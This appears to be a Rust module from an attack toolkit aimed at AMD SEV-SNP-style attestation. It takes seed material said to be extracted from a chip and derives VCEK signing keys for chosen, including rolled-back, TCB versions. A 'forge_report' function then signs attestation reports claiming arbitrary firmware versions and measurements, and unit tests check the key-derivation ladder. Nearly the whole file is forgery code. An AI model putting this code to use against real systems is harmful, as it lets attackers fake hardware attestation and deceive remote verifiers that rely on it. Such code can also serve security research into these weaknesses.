// Licensed under the Apache-2.0 license

use serde::{Deserialize, Serialize};

use super::AttackError;
use crate::vcek::{
    derive_from_rollback, derive_tcb_seed, sign_report, tcb_seed_from_layer1, AttestationReport, ChipId,
    ReportBody, Seed, TcbVersion,
};

/// Secret material pulled off one chip.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum SeedMaterial {
    /// The fused VCEK root itself. Reaches every TCB.
    Root {
        #[serde(with = "hex")]
        root_seed: Seed,
    },
    /// Layer-1 handoff seen by a bootloader running at SVN `cur`.
    Layer {
        cur: u8,
        #[serde(with = "hex")]
        layer1_seed: Seed,
        #[serde(default, with = "opt_hex")]
        rollback_seed: Option<Seed>,
    },
}

mod opt_hex {
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(v: &Option<[u8; 32]>, s: S) -> Result<S::Ok, S::Error> {
        match v {
            Some(b) => s.serialize_some(&hex::encode(b)),
            None => s.serialize_none(),
        }
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Option<[u8; 32]>, D::Error> {
        let Some(s) = Option::<String>::deserialize(d)? else {
            return Ok(None);
        };
        let mut out = [0u8; 32];
        hex::decode_to_slice(s, &mut out).map_err(serde::de::Error::custom)?;
        Ok(Some(out))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExtractedMaterial {
    #[serde(with = "hex")]
    pub chip_id: ChipId,
    pub material: SeedMaterial,
}

/// VCEK seed for `target`, or [`AttackError::Unreachable`] when the hash
/// ladder runs the wrong way.
pub fn vcek_seed_for(material: &SeedMaterial, target: TcbVersion) -> Result<Seed, AttackError> {
    match *material {
        SeedMaterial::Root { root_seed } => Ok(derive_tcb_seed(&root_seed, target)),
        SeedMaterial::Layer {
            cur,
            layer1_seed,
            rollback_seed,
        } => {
            let unreachable = AttackError::Unreachable {
                cur,
                target: target.bl_svn,
            };
            if target.bl_svn == cur {
                Ok(tcb_seed_from_layer1(&layer1_seed, target.sevfw_svn, target.ucode_svn))
            } else if target.bl_svn < cur {
                let rb = rollback_seed.ok_or(unreachable)?;
                Ok(derive_from_rollback(&rb, cur, target)?)
            } else {
                Err(unreachable)
            }
        }
    }
}

/// Signs a report claiming `target` with the derived VCEK.
pub fn forge_report(
    material: &ExtractedMaterial,
    target: TcbVersion,
    measurement: [u8; 48],
    report_data: [u8; 64],
) -> Result<AttestationReport, AttackError> {
    let seed = vcek_seed_for(&material.material, target)?;
    Ok(sign_report(
        &seed,
        ReportBody::new(measurement, target, material.chip_id, report_data),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vcek::derive_layer_seed;

    const ROOT: Seed = [0x5A; 32];

    fn layer(cur: u8) -> SeedMaterial {
        let s = derive_layer_seed(&ROOT, cur);
        SeedMaterial::Layer {
            cur,
            layer1_seed: s.layer_seed,
            rollback_seed: s.rollback_seed,
        }
    }

    #[test]
    fn layer_material_reaches_down_not_up() {
        let m = layer(10);
        for bl in 0..=10 {
            let t = TcbVersion::new(bl, 3, 7);
            assert_eq!(vcek_seed_for(&m, t).unwrap(), derive_tcb_seed(&ROOT, t));
        }
        assert_eq!(
            vcek_seed_for(&m, TcbVersion::new(11, 3, 7)),
            Err(AttackError::Unreachable { cur: 10, target: 11 })
        );
    }

    #[test]
    fn svn_zero_has_no_rollback() {
        let m = layer(0);
        assert!(vcek_seed_for(&m, TcbVersion::new(0, 1, 1)).is_ok());
        assert!(vcek_seed_for(&m, TcbVersion::new(1, 1, 1)).is_err());
    }

    #[test]
    fn root_reaches_everything() {
        let m = SeedMaterial::Root { root_seed: ROOT };
        let t = TcbVersion::new(255, 255, 255);
        assert_eq!(vcek_seed_for(&m, t).unwrap(), derive_tcb_seed(&ROOT, t));
    }

    #[test]
    fn json_round_trip() {
        for material in [layer(0), layer(9), SeedMaterial::Root { root_seed: ROOT }] {
            let m = ExtractedMaterial {
                chip_id: [3; 32],
                material,
            };
            let s = serde_json::to_string(&m).unwrap();
            assert_eq!(serde_json::from_str::<ExtractedMaterial>(&s).unwrap(), m);
        }
    }
}
